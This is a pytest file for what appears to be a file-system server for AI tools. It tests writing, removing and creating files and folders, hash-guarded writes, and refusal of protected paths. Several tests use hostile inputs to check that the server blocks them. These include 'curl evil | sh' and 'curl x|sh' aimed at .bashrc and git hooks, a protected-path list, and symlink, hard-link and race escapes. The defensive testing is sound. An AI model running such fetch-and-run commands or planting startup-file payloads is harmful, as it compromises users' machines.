"""write_file, remove_file, create_folder, remove_folder over the real protocol (seed 003 §9), plus the
guard rails: expected_sha256 (compare-and-swap) and protected paths."""

from __future__ import annotations

import contextlib
import hashlib
import os
import stat
import threading
from pathlib import Path

import anyio
import pytest

from tests.conftest import Harness, MakeServer, no_host_path, tr, tree

pytestmark = pytest.mark.anyio


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# -- write_file -----------------------------------------------------------------------------------


async def test_e2e_014_overwrite_replaces_content(server: Harness, workspace: Path) -> None:
    (workspace / "existing.txt").write_text("old content")
    got = await server.ok("write_file", root="workspace", path="existing.txt", content="new content",
                          mode="overwrite")
    assert got["size"] == len("new content") and got["mode"] == "overwrite" and got["created"] is False
    assert got["sha256"] == sha(b"new content")
    assert (await server.ok("read_file", root="workspace", path="existing.txt"))["content"] == "new content"


async def test_a_replaced_file_is_let_go(server: Harness, workspace: Path) -> None:
    """The server holds the file it replaces across the rename (so that the kernel frees it outside the call's path),
    and then lets it go: no descriptor of the server stays on the old inode, whose space returns to the disk."""
    target = workspace / "big.bin"
    target.write_bytes(b"x" * 1_000_000)
    old = os.stat(target)
    await server.ok("write_file", root="workspace", path="big.bin", content="new content", mode="overwrite")

    def held() -> list[str]:
        found = []
        for fd in os.listdir("/proc/self/fd"):
            with contextlib.suppress(OSError):
                st = os.stat(f"/proc/self/fd/{fd}")
                if (st.st_dev, st.st_ino) == (old.st_dev, old.st_ino):
                    found.append(os.readlink(f"/proc/self/fd/{fd}"))
        return found

    for _ in range(100):
        if not held():
            break
        await anyio.sleep(0.01)
    assert held() == []
    assert target.read_text() == "new content"


async def test_overwrite_keeps_mode_bits_and_breaks_hard_links(server: Harness, workspace: Path,
                                                               outside: Path) -> None:
    target = workspace / "script.sh"
    target.write_text("old")
    target.chmod(0o751)
    os.link(outside / "secret.txt", workspace / "hardlink.txt")  # an inode shared with an outside name
    await server.ok("write_file", root="workspace", path="script.sh", content="new")
    assert stat.S_IMODE(target.stat().st_mode) == 0o751
    await server.ok("write_file", root="workspace", path="hardlink.txt", content="replaced")
    assert (outside / "secret.txt").read_text() == "OUTSIDE-SECRET\n"  # the outside name still has the old data
    assert (workspace / "hardlink.txt").read_text() == "replaced"


async def test_e2e_015_append(server: Harness, workspace: Path) -> None:
    (workspace / "log.txt").write_text("line1\n")
    got = await server.ok("write_file", root="workspace", path="log.txt", content="line2\n", mode="append")
    assert got["size"] == 6 and got["created"] is False
    assert (await server.ok("read_file", root="workspace", path="log.txt"))["content"] == "line1\nline2\n"


async def test_append_creates_missing_file_and_never_writes_through_a_hard_link(
        server: Harness, workspace: Path, outside: Path) -> None:
    got = await server.ok("write_file", root="workspace", path="new/log.txt", content="a\n", mode="append")
    assert got["created"] is True and (workspace / "new/log.txt").read_text() == "a\n"
    os.link(outside / "secret.txt", workspace / "linked.log")
    await server.ok("write_file", root="workspace", path="linked.log", content="more\n", mode="append")
    assert (workspace / "linked.log").read_text() == "OUTSIDE-SECRET\nmore\n"
    assert (outside / "secret.txt").read_text() == "OUTSIDE-SECRET\n"


async def test_e2e_016_create_only_when_absent(server: Harness, workspace: Path) -> None:
    got = await server.ok("write_file", root="workspace", path="new.txt", content="created", mode="create_only")
    assert got["created"] is True
    assert (await server.ok("read_file", root="workspace", path="new.txt"))["content"] == "created"


async def test_e2e_017_create_only_refuses_existing_file(server: Harness, workspace: Path) -> None:
    (workspace / "existing.txt").write_text("keep me")
    msg = await server.err("write_file", root="workspace", path="existing.txt", content="nope", mode="create_only")
    assert msg == "file already exists: existing.txt; use overwrite mode to replace"
    assert (await server.ok("read_file", root="workspace", path="existing.txt"))["content"] == "keep me"


async def test_e2e_018_parents_are_created(server: Harness, workspace: Path) -> None:
    await server.ok("write_file", root="workspace", path="deep/nested/dir/file.txt", content="deep")
    assert (await server.ok("read_file", root="workspace", path="deep/nested/dir/file.txt"))["content"] == "deep"
    assert (workspace / "deep/nested/dir").is_dir()


async def test_e2e_074_invalid_mode_lists_valid_modes(server: Harness, workspace: Path) -> None:
    msg = await server.err("write_file", root="workspace", path="x.txt", content="x", mode="truncate")
    assert "overwrite, append, create_only" in msg and "truncate" in msg
    assert not (workspace / "x.txt").exists()


async def test_e2e_066_write_refused_by_allowlist(make_server: MakeServer, tmp_path: Path) -> None:
    ro = tmp_path / "ro"
    h = await make_server({"readonly": (ro, ["list_folder", "read_file"])})
    msg = await h.err("write_file", root="readonly", path="app.yaml", content="x")
    assert msg == "tool write_file not allowed on root readonly"
    assert not (ro / "app.yaml").exists()


async def test_write_base64_binary_content(server: Harness, workspace: Path) -> None:
    await server.ok("write_file", root="workspace", path="b.bin", content="AAH/", encoding="base64")
    assert (workspace / "b.bin").read_bytes() == b"\x00\x01\xff"
    assert "base64" in await server.err("write_file", root="workspace", path="c.bin", content="%%%",
                                        encoding="base64")
    assert not (workspace / "c.bin").exists()


async def test_write_onto_directory_is_refused(server: Harness, workspace: Path) -> None:
    (workspace / "d").mkdir()
    assert "directory" in await server.err("write_file", root="workspace", path="d", content="x")
    assert (workspace / "d").is_dir()
    assert "must not end with '/'" in await server.err("write_file", root="workspace", path="notes/", content="x")
    assert not (workspace / "notes").exists()


async def test_failed_write_removes_the_parents_it_made(server: Harness, workspace: Path) -> None:
    msg = await server.err("write_file", root="workspace", path="fresh/sub/f.txt", content="x",
                           expected_sha256="0" * 64)
    assert "does not exist" in msg
    assert not (workspace / "fresh").exists()


async def test_write_through_in_root_symlink_updates_its_target(server: Harness, workspace: Path) -> None:
    (workspace / "real.txt").write_text("old")
    (workspace / "link.txt").symlink_to("real.txt")
    await server.ok("write_file", root="workspace", path="link.txt", content="new")
    assert (workspace / "link.txt").is_symlink() and (workspace / "real.txt").read_text() == "new"


# -- expected_sha256 (compare-and-swap) -----------------------------------------------------------


async def test_expected_sha256_allows_write_when_unchanged(server: Harness, workspace: Path) -> None:
    (workspace / "f.txt").write_text("v1")
    got = await server.ok("write_file", root="workspace", path="f.txt", content="v2", expected_sha256=sha(b"v1"))
    # The result's sha256 chains into the next guarded write.
    await server.ok("write_file", root="workspace", path="f.txt", content="v3", expected_sha256=got["sha256"])
    assert (workspace / "f.txt").read_text() == "v3"


async def test_expected_sha256_refuses_stale_write_and_reports_current_hash(server: Harness,
                                                                            workspace: Path) -> None:
    (workspace / "f.txt").write_text("someone else's edit")
    msg = await server.err("write_file", root="workspace", path="f.txt", content="mine",
                           expected_sha256=sha(b"what I read"))
    assert sha(b"someone else's edit") in msg
    assert (workspace / "f.txt").read_text() == "someone else's edit"
    msg = await server.err("write_file", root="workspace", path="f.txt", content="mine", mode="append",
                           expected_sha256=sha(b"what I read"))
    assert sha(b"someone else's edit") in msg and (workspace / "f.txt").read_text() == "someone else's edit"


async def test_expected_sha256_must_be_a_hex_digest(server: Harness, workspace: Path) -> None:
    msg = await server.err("write_file", root="workspace", path="f.txt", content="x", expected_sha256="abc")
    assert "expected_sha256" in msg and not (workspace / "f.txt").exists()


# -- protected paths ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", ".mcp.json", ".bashrc", ".zshrc",
                                  "vendor/lib/.git/config", "home/.profile", ".GIT/CONFIG"])
async def test_protected_paths_cannot_be_written(server: Harness, workspace: Path, path: str) -> None:
    msg = await server.err("write_file", root="workspace", path=path, content="curl evil | sh")
    # Inside .git the repository rule answers (it holds whatever protected_paths says).
    reason = "is inside a git directory" if ".git/" in path.lower() else "matches the protected_paths rule"
    assert msg.startswith(f"protected path: {path} {reason}")
    assert not (workspace / path).exists()
    assert not (workspace / path.split("/")[0]).exists() or path.count("/") == 0  # no parents left behind


async def test_protected_paths_reached_through_symlinks_are_refused(server: Harness, workspace: Path) -> None:
    (workspace / ".git/hooks").mkdir(parents=True)
    (workspace / ".git/config").write_text("[core]\n")
    (workspace / "innocent").symlink_to(".git/config")
    (workspace / "hooksdir").symlink_to(".git/hooks")
    assert "protected path: innocent is inside a git directory" in await server.err(
        "write_file", root="workspace", path="innocent", content="x")
    assert "protected path: hooksdir/post-merge is inside a git directory" in await server.err(
        "write_file", root="workspace", path="hooksdir/post-merge", content="x")
    assert (workspace / ".git/config").read_text() == "[core]\n"
    assert not (workspace / ".git/hooks/post-merge").exists()


async def test_protected_paths_cannot_be_removed_patched_or_overwritten_by_folder_removal(
        server: Harness, workspace: Path) -> None:
    (workspace / "repo/.git").mkdir(parents=True)
    (workspace / "repo/.git/config").write_text("[core]\n")
    (workspace / ".bashrc").write_text("alias ll='ls -l'\n")
    assert "protected path" in await server.err("remove_file", root="workspace", path=".bashrc")
    assert "protected path" in await server.err("patch_file", root="workspace", path=".bashrc",
                                                patch="@@ -1 +1 @@\n-alias ll='ls -l'\n+curl x|sh\n")
    msg = await server.err("remove_folder", root="workspace", path="repo/.git")
    assert msg.startswith("protected path: repo/.git is a git directory or file (.git)")
    (workspace / "home").mkdir()
    (workspace / "home/.profile").write_text("x\n")
    msg = await server.err("remove_folder", root="workspace", path="home")
    assert "home/.profile" in msg and "'.profile'" in msg
    assert (workspace / "repo/.git/config").exists() and (workspace / ".bashrc").read_text() == "alias ll='ls -l'\n"
    # SPEC v2: a folder that holds a repository may be removed whole.
    await server.ok("remove_folder", root="workspace", path="repo")
    assert not (workspace / "repo").exists()
    # Reading them stays allowed.
    await server.ok("read_file", root="workspace", path=".bashrc")


async def test_protected_paths_are_configurable(make_server: MakeServer, workspace: Path) -> None:
    h = await make_server(protected_paths=["secrets/**", "/top.txt"])
    assert "'secrets/**'" in await h.err("write_file", root="workspace", path="a/secrets/k.pem", content="x")
    assert "'/top.txt'" in await h.err("write_file", root="workspace", path="top.txt", content="x")
    await h.ok("write_file", root="workspace", path="sub/top.txt", content="x")  # "/" anchors at the root
    await h.ok("write_file", root="workspace", path=".bashrc", content="x")  # not in this list
    h2 = await make_server(protected_paths=[])
    await h2.ok("write_file", root="workspace", path=".mcp.json", content="x")
    # A repository's internals are not a protected_paths rule: no configuration opens them (SPEC v2).
    assert "inside a git directory" in await h2.err("write_file", root="workspace", path=".git/config", content="x")


# -- remove_file ----------------------------------------------------------------------------------


async def test_e2e_019_remove_file(server: Harness, workspace: Path) -> None:
    (workspace / "to_delete.txt").write_text("bye")
    got = await server.ok("remove_file", root="workspace", path="to_delete.txt")
    assert got == {"path": "to_delete.txt", "removed": True}
    assert "file not found" in await server.err("stat_file", root="workspace", path="to_delete.txt")


async def test_e2e_020_remove_missing_file(server: Harness) -> None:
    assert await server.err("remove_file", root="workspace", path="ghost.txt") == "file not found: ghost.txt"


async def test_e2e_021_remove_file_on_directory(server: Harness, workspace: Path) -> None:
    (workspace / "mydir").mkdir()
    msg = await server.err("remove_file", root="workspace", path="mydir")
    assert "is a directory" in msg and "remove_folder" in msg
    assert (workspace / "mydir").is_dir()


async def test_remove_file_on_symlink_removes_only_the_link(server: Harness, workspace: Path,
                                                            outside: Path) -> None:
    (workspace / "escape").symlink_to(outside / "secret.txt")
    await server.ok("remove_file", root="workspace", path="escape")
    assert not os.path.lexists(workspace / "escape")
    assert (outside / "secret.txt").read_text() == "OUTSIDE-SECRET\n"


# -- create_folder --------------------------------------------------------------------------------


async def test_e2e_025_create_nested_folders(server: Harness, workspace: Path) -> None:
    got = await server.ok("create_folder", root="workspace", path="a/b/c")
    assert got == {"path": "a/b/c", "created": True}
    listing = await server.ok("list_folder", root="workspace", path="a/b")
    assert [(e["name"], e["type"]) for e in listing["entries"]] == [("c", "directory")]


async def test_e2e_026_create_existing_folder_is_idempotent(server: Harness, workspace: Path) -> None:
    (workspace / "existing_dir").mkdir()
    (workspace / "existing_dir/keep.txt").write_text("k")
    got = await server.ok("create_folder", root="workspace", path="existing_dir")
    assert got == {"path": "existing_dir", "created": False}
    assert (workspace / "existing_dir/keep.txt").read_text() == "k"


async def test_e2e_027_create_folder_over_a_file(server: Harness, workspace: Path) -> None:
    (workspace / "conflict").write_text("file")
    msg = await server.err("create_folder", root="workspace", path="conflict")
    assert msg == "path exists and is a file, not a directory: conflict"
    msg = await server.err("create_folder", root="workspace", path="conflict/sub")
    assert "not a directory" in msg
    assert (workspace / "conflict").read_text() == "file"


# -- remove_folder --------------------------------------------------------------------------------


async def test_e2e_028_remove_folder_recursively(server: Harness, workspace: Path) -> None:
    (workspace / "dir/sub/deeper").mkdir(parents=True)
    (workspace / "dir/a.txt").write_text("a")
    (workspace / "dir/sub/deeper/b.txt").write_text("b")
    got = await server.ok("remove_folder", root="workspace", path="dir")
    assert got == {"path": "dir", "removed": True, "entries_removed": 4}
    assert "not found" in await server.err("stat_file", root="workspace", path="dir")


@pytest.mark.parametrize("spelling", ["", ".", "/", "./", "sub/..", "sub/../.", "//"])
async def test_e2e_029_remove_folder_refuses_the_root(server: Harness, workspace: Path, spelling: str) -> None:
    (workspace / "sub").mkdir()
    (workspace / "keep.txt").write_text("k")
    assert await server.err("remove_folder", root="workspace", path=spelling) == "cannot remove root directory"
    assert (workspace / "keep.txt").exists() and workspace.is_dir()


async def test_e2e_030_remove_missing_folder(server: Harness) -> None:
    assert await server.err("remove_folder", root="workspace", path="nonexistent") == \
        "directory not found: nonexistent"


async def test_e2e_031_remove_folder_on_a_file(server: Harness, workspace: Path) -> None:
    (workspace / "not_a_dir.txt").write_text("x")
    msg = await server.err("remove_folder", root="workspace", path="not_a_dir.txt")
    assert "is a file, not a directory" in msg and (workspace / "not_a_dir.txt").exists()


async def test_e2e_069_remove_folder_unlinks_outside_symlinks_without_following(
        server: Harness, workspace: Path, outside: Path, resolver: str) -> None:
    (workspace / "dir").mkdir()
    (workspace / "dir/escape").symlink_to(outside)
    (workspace / "dir/secret-link").symlink_to(outside / "secret.txt")
    got = await server.ok("remove_folder", root="workspace", path="dir")
    assert got["removed"] is True
    assert not (workspace / "dir").exists()
    assert (outside / "secret.txt").read_text() == "OUTSIDE-SECRET\n"


async def test_remove_folder_refuses_a_symlink_to_a_folder(server: Harness, workspace: Path) -> None:
    (workspace / "real").mkdir()
    (workspace / "real/f").write_text("f")
    (workspace / "alias").symlink_to("real")
    assert "symlink" in await server.err("remove_folder", root="workspace", path="alias")
    assert (workspace / "real/f").exists()


# -- what clients see -----------------------------------------------------------------------------


async def test_tool_annotations(server: Harness) -> None:
    tools = {t.name: t for t in (await server.client.list_tools()).tools}
    expect = {  # name: (destructive, idempotent)
        "write_file": (True, False), "remove_file": (True, True), "patch_file": (True, False),
        "create_folder": (False, True), "remove_folder": (True, True), "copy": (True, True), "move": (True, False),
    }
    for name, (destructive, idempotent) in expect.items():
        ann = tools[name].annotations
        assert ann is not None and ann.read_only_hint is False
        assert (ann.destructive_hint, ann.idempotent_hint) == (destructive, idempotent), name
    assert tools["write_file"].input_schema["properties"]["mode"]["enum"] == ["overwrite", "append", "create_only"]


# -- attacks through the writing tools: symlinks, `..`, hard links, races, protected spellings ----------


@pytest.mark.parametrize("path", ["a/b/c.txt", "a/new/deeper/c.txt", "in/../a/x.txt", "../outside/x.txt",
                                  "in/../../outside/x.txt", "dangling", "dangling_abs", "dir_link/x.txt"])
@pytest.mark.parametrize("mode", ["overwrite", "append", "create_only"])
async def test_write_never_creates_outside(server: Harness, workspace: Path, outside: Path, tmp_path: Path,
                                           resolver: str, path: str, mode: str) -> None:
    (workspace / "a").symlink_to(outside)
    (workspace / "in").mkdir()
    (workspace / "dangling").symlink_to("../outside/planted.txt")
    (workspace / "dangling_abs").symlink_to(outside / "planted_abs.txt")
    (workspace / "dir_link").symlink_to("in/../../outside")
    before = tree(outside)
    text = await server.err("write_file", root="workspace", path=path, content="PWNED", mode=mode)
    assert "outside root boundary" in text
    no_host_path(text, tmp_path)
    assert tree(outside) == before


@pytest.mark.parametrize("path", ["dangling", "a/x.txt"])
async def test_patch_and_create_folder_never_create_outside(server: Harness, workspace: Path, outside: Path,
                                                            resolver: str, path: str) -> None:
    (workspace / "a").symlink_to("../outside")
    (workspace / "dangling").symlink_to("../outside/planted.txt")
    before = tree(outside)
    patch = "--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+PWNED\n"
    assert "outside root boundary" in await server.err("patch_file", root="workspace", path=path, patch=patch)
    assert "outside root boundary" in await server.err("create_folder", root="workspace", path=path + "/sub/dir")
    assert tree(outside) == before


async def test_mkdir_p_race_with_a_symlink_swapped_in(server: Harness, workspace: Path, outside: Path,
                                                      resolver: str) -> None:
    """A thread keeps replacing `a/b` with a symlink to outside while write_file creates `a/b/c/d.txt`."""
    (workspace / "a").mkdir()
    stop = threading.Event()

    def swap() -> None:
        b, n = workspace / "a" / "b", 0
        while not stop.is_set():
            n += 1
            with contextlib.suppress(OSError):
                os.rename(b, workspace / "a" / f"aside{n}")  # a directory the writer made: out of the way
            with contextlib.suppress(OSError):
                b.symlink_to(outside)  # ... and a link to outside in its place, for a moment
            with contextlib.suppress(OSError):
                b.unlink()

    t = threading.Thread(target=swap, daemon=True)
    t.start()
    try:
        for i in range(40):
            await server.call("write_file", root="workspace", path=f"a/b/c{i}/d.txt", content="PWNED")
    finally:
        stop.set()
        t.join()
    assert sorted(os.listdir(outside)) == ["secret.txt"]


@pytest.mark.parametrize("how", ["overwrite", "append", "patch", "copy_onto", "move_onto"])
async def test_hard_link_to_an_outside_file_is_never_written_through(server: Harness, workspace: Path,
                                                                     outside: Path, how: str) -> None:
    try:
        os.link(outside / "secret.txt", workspace / "linked.txt")
    except OSError as exc:
        pytest.skip(f"no hard links here: {exc}")
    (workspace / "other.txt").write_text("other\n")
    if how in ("overwrite", "append"):
        await server.ok("write_file", root="workspace", path="linked.txt", content="PWNED\n", mode=how)
    elif how == "patch":
        await server.ok("patch_file", root="workspace", path="linked.txt",
                        patch="@@ -1 +1,2 @@\n OUTSIDE-SECRET\n+PWNED\n")
    else:
        await server.ok("copy" if how == "copy_onto" else "move", **tr("other.txt", "linked.txt"))
    assert (outside / "secret.txt").read_text() == "OUTSIDE-SECRET\n"
    assert os.stat(outside / "secret.txt").st_nlink == 1


async def test_remove_folder_through_symlinked_parent(server: Harness, workspace: Path, outside: Path) -> None:
    (outside / "victim").mkdir()
    (outside / "victim" / "f").write_text("keep\n")
    (workspace / "out").symlink_to("../outside")
    (workspace / "real" / "sub").mkdir(parents=True)
    (workspace / "inlink").symlink_to("real")
    assert "outside root boundary" in await server.err("remove_folder", root="workspace", path="out/victim")
    assert "outside root boundary" in await server.err("remove_file", root="workspace", path="out/secret.txt")
    assert (outside / "victim" / "f").read_text() == "keep\n"
    await server.ok("remove_folder", root="workspace", path="inlink/sub")
    assert not (workspace / "real" / "sub").exists()


@pytest.mark.parametrize("path", [".GIT/Config", "./.git//config", "x/../.git/config", ".git/./hooks/pre-commit",
                                  "innocent/pre-commit", ".git/hooks/../hooks/post-merge", "sub/.Git/HOOKS/x",
                                  ".git/x/../config", "/.git/config", "innocent/../config"])
async def test_protected_path_spellings(server: Harness, workspace: Path, path: str) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "x").mkdir()
    (workspace / "x").mkdir()
    (workspace / "innocent").symlink_to(".git/hooks")
    (workspace / "f.txt").write_text("#!/bin/sh\necho pwned\n")
    assert "protected path" in await server.err("write_file", root="workspace", path=path, content="x")
    assert "protected path" in await server.err("copy", **tr("f.txt", path))
    assert "protected path" in await server.err("move", **tr("f.txt", path))
    assert "protected path" in await server.err("patch_file", root="workspace", path=path,
                                                patch="--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n")
    assert not list((workspace / ".git" / "hooks").iterdir())
    assert not (workspace / ".git" / "config").exists()


async def test_a_final_symlink_to_a_protected_file(server: Harness, workspace: Path) -> None:
    """Writing through `cfg -> .git/config` is writing .git/config."""
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / "cfg").symlink_to(".git/config")
    (workspace / "f.txt").write_text("x\n")
    for mode in ("overwrite", "append"):
        assert "protected path" in await server.err("write_file", root="workspace", path="cfg", content="x", mode=mode)
    assert "protected path" in await server.err("patch_file", root="workspace", path="cfg",
                                                patch="@@ -1 +1 @@\n-[core]\n+[core] x\n")
    assert "protected path" in await server.err("copy", **tr("f.txt", "cfg"))
    # move would only replace the link, but it decides "is cfg a folder?" through it, and refuses too.
    assert "protected path" in await server.err("move", **tr("f.txt", "cfg"))
    assert (workspace / ".git" / "config").read_text() == "[core]\n"


async def test_protection_holds_in_a_nested_root_renamed_through_its_parent(make_server: MakeServer,
                                                                           workspace: Path) -> None:
    """Root `proj` lies inside root `workspace`; renaming it there must not blind `proj`'s checks."""
    proj = workspace / "proj"
    (proj / ".git").mkdir(parents=True)
    (proj / "innocent").symlink_to(".git")
    h = await make_server({"workspace": workspace, "proj": proj})
    await h.ok("move", **tr("proj", "moved"))
    assert "protected path" in await h.err("write_file", root="proj", path="innocent/config", content="x")
    assert not (workspace / "moved" / ".git" / "config").exists()


def _deep(top: Path, levels: int) -> Path:
    """A chain of `levels` directories below `top`, made by descriptor (the path gets too long for one call)."""
    top.mkdir()
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(levels):
            os.mkdir("d", dir_fd=fd)
            nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nfd
        os.close(os.open("f.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)
    return top


def _remove_chain(top: Path) -> None:
    """Remove what `_deep` made, by descriptor (shutil.rmtree, and so pytest's clean-up, recurses too deep)."""
    fds = [os.open(top, os.O_RDONLY | os.O_DIRECTORY)]
    try:
        with contextlib.suppress(FileNotFoundError):
            while True:
                fds.append(os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fds[-1]))
        os.unlink("f.txt", dir_fd=fds[-1])
        for parent in reversed(fds[:-1]):
            os.rmdir("d", dir_fd=parent)
    finally:
        for fd in fds:
            os.close(fd)
    top.rmdir()


async def test_very_deep_trees_are_refused_cleanly(server: Harness, workspace: Path) -> None:
    """remove_folder and move walk the tree for protected paths: a deep one must not crash them."""
    _deep(workspace / "top", 1200)
    try:
        for tool, kwargs in (("remove_folder", {"root": "workspace", "path": "top"}), ("move", tr("top", "top2"))):
            text = await server.err(tool, **kwargs)
            assert "too deep" in text and "internal error" not in text
        assert (workspace / "top").is_dir() and not (workspace / "top2").exists()
    finally:
        _remove_chain(workspace / "top")
    _deep(workspace / "ok", 100)
    await server.ok("move", **tr("ok", "ok2"))
    got = await server.ok("remove_folder", root="workspace", path="ok2")
    assert got["entries_removed"] == 101
